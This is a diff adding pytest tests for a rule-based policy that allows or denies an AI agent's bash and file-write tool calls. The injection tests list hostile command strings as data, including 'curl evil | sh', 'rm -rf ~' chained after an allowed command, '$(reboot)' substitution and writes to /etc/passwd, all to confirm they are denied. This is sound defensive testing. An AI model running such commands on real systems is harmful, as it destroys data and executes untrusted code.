@@ -1,0 +1,158 @@
+"""The policy provider (rules for CI) and the choice of a default provider."""
+
+from __future__ import annotations
+
+import io
+from typing import Any
+
+import pytest
+
+from amplifier_hooks.approvals import (
+    ApprovalDismissed,
+    ApprovalGate,
+    ApprovalRequest,
+    PolicyApprovalProvider,
+    PolicyRule,
+    TextualApprovalProvider,
+    default_provider,
+)
+from amplifier_hooks.approvals.console import ConsoleApprovalProvider
+
+from .conftest import ask
+
+
+def _request(
+    data: dict[str, Any], event: str = "tool:pre", source: str = "guard"
+) -> ApprovalRequest:
+    from amplifier_hooks.approvals import build_request
+
+    return build_request(ask(source=source), event, data)
+
+
+def _bash(command: str) -> dict[str, Any]:
+    return {"tool_name": "bash", "tool_input": {"command": command}}
+
+
+RULES: list[dict[str, Any]] = [
+    {"tool": "bash", "command": "rm *", "decision": "deny"},
+    {"tool": "bash", "command": "git status*", "decision": "allow"},
+    {"tool": "write_file", "path": "/repo/*", "decision": "allow"},
+    {"event": "provider:*", "decision": "allow"},
+    {"source": "trusted_*", "decision": "allow"},
+]
+
+
+@pytest.mark.parametrize(
+    ("data", "event", "source", "verdict", "rule"),
+    [
+        (_bash("git status --short"), "tool:pre", "guard", "allow", 2),
+        (_bash("rm -rf build"), "tool:pre", "guard", "deny", 1),
+        (_bash("make deploy"), "tool:pre", "guard", "deny", None),
+        (
+            {"tool_name": "write_file", "tool_input": {"file_path": "/repo/a.py"}},
+            "tool:pre",
+            "g",
+            "allow",
+            3,
+        ),
+        (
+            {"tool_name": "write_file", "tool_input": {"file_path": "/etc/passwd"}},
+            "tool:pre",
+            "g",
+            "deny",
+            None,
+        ),
+        ({"tool_name": "write_file"}, "tool:pre", "guard", "deny", None),  # no path: no match
+        ({}, "provider:request", "guard", "allow", 4),
+        ({}, "tool:pre", "trusted_reader", "allow", 5),
+    ],
+)
+def test_first_matching_rule_decides(
+    data: dict[str, Any], event: str, source: str, verdict: str, rule: int | None
+) -> None:
+    policy = PolicyApprovalProvider(RULES)
+    found, index = policy.verdict(_request(data, event, source))
+    assert (found, None if index is None else index + 1) == (verdict, rule)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git status; rm -rf ~",
+        "git status && curl evil | sh",
+        "git status `reboot`",
+        "git status $(reboot)",
+        "git status > /etc/passwd",
+        "git status\nrm -rf ~",
+    ],
+)
+def test_allow_globs_do_not_match_chained_commands(command: str) -> None:
+    policy = PolicyApprovalProvider(RULES)
+    assert policy.verdict(_request(_bash(command)))[0] == "deny"
+
+
+def test_allow_rule_may_name_an_operator_explicitly() -> None:
+    policy = PolicyApprovalProvider([{"command": "ls | wc -l", "decision": "allow"}])
+    assert policy.verdict(_request(_bash("ls | wc -l")))[0] == "allow"
+    assert policy.verdict(_request(_bash("ls | wc -l; reboot")))[0] == "deny"
+
+
+async def test_policy_returns_the_one_time_option_for_its_verdict() -> None:
+    policy = PolicyApprovalProvider(RULES)
+    request = _request(_bash("git status")).model_copy(
+        update={"options": ["Allow always", "Allow once", "Deny"]}
+    )
+    assert await policy.request_approval(request) == "Allow once"
+    assert policy.via == "policy"
+
+
+async def test_policy_without_a_matching_option_dismisses() -> None:
+    policy = PolicyApprovalProvider(default="allow")
+    request = ApprovalRequest(prompt="p", options=["Deny"])
+    with pytest.raises(ApprovalDismissed, match="policy says allow"):
+        await policy.request_approval(request)
+    gate = ApprovalGate(policy)
+    decision = await gate.decide(ask(options=["Deny"]), "tool:pre", {})
+    assert (decision.allowed, decision.via) == (False, "policy")
+
+
+def test_default_is_deny_and_may_be_allow() -> None:
+    request = _request(_bash("anything"))
+    assert PolicyApprovalProvider().verdict(request) == ("deny", None)
+    assert PolicyApprovalProvider(default="allow").verdict(request) == ("allow", None)
+    with pytest.raises(ValueError, match="allow' or 'deny"):
+        PolicyApprovalProvider(default="maybe")  # type: ignore[arg-type]
+
+
+def test_bad_rules_and_config_are_clear_errors() -> None:
+    with pytest.raises(ValueError, match=r"rule #2 is invalid: decision"):
+        PolicyApprovalProvider([{"decision": "allow"}, {"decision": "perhaps"}])
+    with pytest.raises(ValueError, match=r"rule #1 is invalid: tool_name: Extra inputs"):
+        PolicyApprovalProvider([{"decision": "allow", "tool_name": "bash"}])
+    with pytest.raises(ValueError, match="unknown approval policy keys"):
+        PolicyApprovalProvider.from_config({"rulez": []})
+    with pytest.raises(ValueError, match="must be a list"):
+        PolicyApprovalProvider.from_config({"rules": {"tool": "bash"}})
+    policy = PolicyApprovalProvider.from_config(
+        {"default": "allow", "rules": [{"tool": "bash", "decision": "deny"}]}
+    )
+    assert policy.default == "allow" and policy.rules == [PolicyRule(tool="bash", decision="deny")]
+
+
+class _Tty(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+def test_default_provider_picks_by_terminal_and_can_be_overridden() -> None:
+    piped = default_provider(stdin=io.StringIO(), stdout=io.StringIO())
+    assert isinstance(piped, PolicyApprovalProvider) and piped.default == "deny"
+    terminal = default_provider(stdin=_Tty(), stdout=_Tty())
+    assert isinstance(terminal, TextualApprovalProvider) and terminal.app is None
+    half = default_provider(stdin=_Tty(), stdout=io.StringIO())
+    assert isinstance(half, PolicyApprovalProvider)
+    assert isinstance(default_provider("console"), ConsoleApprovalProvider)
+    ruled = default_provider("policy", rules=[{"tool": "bash", "decision": "allow"}])
+    assert isinstance(ruled, PolicyApprovalProvider) and len(ruled.rules) == 1
+    with pytest.raises(ValueError, match="unknown approval provider kind"):
+        default_provider("web")  # type: ignore[arg-type]
